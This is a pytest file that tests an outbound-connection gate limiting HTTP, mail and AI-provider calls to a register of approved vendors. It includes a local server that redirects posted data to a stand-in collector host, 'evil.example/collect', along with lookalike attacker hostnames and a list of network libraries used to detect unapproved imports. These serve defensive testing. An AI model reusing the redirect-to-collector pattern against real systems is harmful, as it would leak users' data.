"""A host outside of the vendor register is refused, by HTTP and by mail, with an error and a log line."""

import ast
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from socket import gaierror
from threading import Thread

import pytest
from django.core.mail import EmailMessage
from pytest_django import Settings

from loops.core.ai import AiUnavailable, ask_model
from monitoring.alerts.channels import DeliveryRefused, post
from tests.factories import browser
from tests.house_style import ROOT, SOURCES
from viral_engine.kernel.outbound.gate import TIMEOUT, OutboundRefused, http_client, post_json, require_vendor
from viral_engine.kernel.outbound.vendors import VENDORS


@dataclass(frozen=True)
class Greeting:
    text: str


NOON = datetime(2026, 3, 4, 12, 0, tzinfo=UTC)


class Elsewhere(BaseHTTPRequestHandler):
    """A server on this machine that sends every client to another company."""

    def do_POST(self) -> None:
        self.send_response(307)
        self.send_header("Location", "http://evil.example/collect")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Print nothing."""


@pytest.fixture
def elsewhere() -> Iterator[str]:
    with HTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.mark.parametrize(
    "host", ["evil.example", "api.anthropic.com.evil.example", "anthropic.com", "", "10.0.0.1", "::"]
)
def test_other_hosts_are_refused_and_logged(host: str, caplog: pytest.LogCaptureFixture) -> None:
    with pytest.raises(OutboundRefused, match="not in the vendor register"):
        require_vendor(host)
    assert "outbound connection refused" in caplog.text


@pytest.mark.parametrize("host", ["hooks.slack.com", "HOOKS.slack.com", "events.pagerduty.com", "api.anthropic.com"])
def test_vendors_pass(host: str) -> None:
    require_vendor(host)


def test_loopback_passes_where_a_setting_allows_it(settings: Settings) -> None:
    for host in ("127.0.0.1", "localhost", "::1", "[::1]"):
        require_vendor(host)
        settings.OUTBOUND_LOOPBACK = False
        with pytest.raises(OutboundRefused):
            require_vendor(host)
        settings.OUTBOUND_LOOPBACK = True


def test_production_waits_for_the_written_assurance(settings: Settings) -> None:
    settings.PRODUCTION = True
    require_vendor("hooks.slack.com")  # it gets nothing about a person
    with pytest.raises(OutboundRefused, match="no written assurance"):
        require_vendor("api.anthropic.com")
    settings.VENDOR_ASSURANCES = {"anthropic": "2026-05-02"}
    require_vendor("api.anthropic.com")
    assert VENDORS["anthropic"].assured_on == date(2026, 5, 2)


def test_a_request_is_refused_before_it_leaves() -> None:
    with pytest.raises(OutboundRefused):
        post_json("https://evil.example/", {}, timeout=TIMEOUT)
    with pytest.raises(DeliveryRefused, match="not in the vendor register"):
        post("https://evil.example/", {}, NOON)


def test_a_redirect_to_another_company_is_refused(elsewhere: str) -> None:
    assert post_json(elsewhere, {}, timeout=TIMEOUT).status_code == 307  # redirects are not followed
    with http_client(follow_redirects=True) as client, pytest.raises(OutboundRefused, match=r"evil\.example"):
        client.post(elsewhere, json={"child": "Ada"})


def test_mail_goes_to_the_provider_of_the_register_alone(settings: Settings) -> None:
    settings.EMAIL_BACKEND = "viral_engine.kernel.outbound.mail.RegisteredSmtpBackend"
    settings.EMAIL_HOST = "mail.invalid"
    with pytest.raises(OutboundRefused, match=r"mail\.invalid"):
        EmailMessage("Hello", "Hello", to=["ada@example.com"]).send()
    settings.MAIL_VENDOR_HOSTS = ["mail.invalid"]
    with pytest.raises(gaierror):  # it passes the gate, and there is no such server
        EmailMessage("Hello", "Hello", to=["ada@example.com"]).send()


@pytest.mark.django_db
def test_the_ai_provider_is_asked_at_its_own_address_alone(
    settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    settings.ANTHROPIC_API_KEY, settings.AI_BASE_URL = "key", "https://evil.example"
    with pytest.raises(AiUnavailable):
        ask_model(instructions="Be nice.", question="Hello", shape=Greeting, at=NOON)
    assert "evil.example is not in the vendor register" in caplog.text


# -- There is no way around the gate ---------------------------------------------------------------------------------
TALKATIVE = (
    "httpx",
    "requests",
    "aiohttp",
    "urllib.request",
    "http.client",
    "smtplib",
    "socket",
    "websockets",
    "anthropic",
)
ALLOWED = {
    "loops/core/ai.py anthropic": "its client has the gate as a hook",
    "loops/core/growth_emails.py smtplib": "names of errors",
    "monitoring/alerts/channels.py smtplib": "names of errors",
    "monitoring/growth/services/reports.py smtplib": "names of errors",
    "monitoring/loadtest/servers.py socket": "servers it has started on this machine",
    "monitoring/loadtest/servers.py urllib.request": "servers it has started on this machine",
    "presence/transport/uvicorn_protocol.py websockets": "the server's end of a socket",
    "viral_engine/kernel/outbound/gate.py httpx": "the gate",
    "viral_engine/kernel/outbound/mail.py smtplib": "names of errors",
    "viral_engine/kernel/outbound/pinned.py http.client": "the gate of addresses that staff type",
    "viral_engine/kernel/outbound/pinned.py socket": "the gate of addresses that staff type",
    "viral_engine/accounts/payments.py httpx": "its errors; the client is the gate's",
    "loops/session_intelligence/transcription.py httpx": "its errors; the client is the gate's",
    "viral_engine/simulated_peers.py websockets": "the site's own port",
}


def connecting_imports() -> set[str]:
    found = set()
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text())):
            names = [one.name for one in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom):
                names = [str(node.module), *(f"{node.module}.{one.name}" for one in node.names)]
            for name in names:
                for library in TALKATIVE:
                    if name == library or name.startswith(f"{library}."):
                        found.add(f"{path.relative_to(ROOT)} {library}")
    return found


def test_no_other_module_can_connect() -> None:
    assert connecting_imports() == set(ALLOWED)


@pytest.mark.django_db
def test_the_register_is_on_the_privacy_pages() -> None:
    for path in ("/privacy/", "/privacy/children/"):
        page = browser().get(path).content.decode()
        for vendor in VENDORS.values():
            assert f'<th scope="row">{vendor.title}</th>' in page
            assert vendor.data in page
        assert page.count("Not yet, so they get nothing") == 6
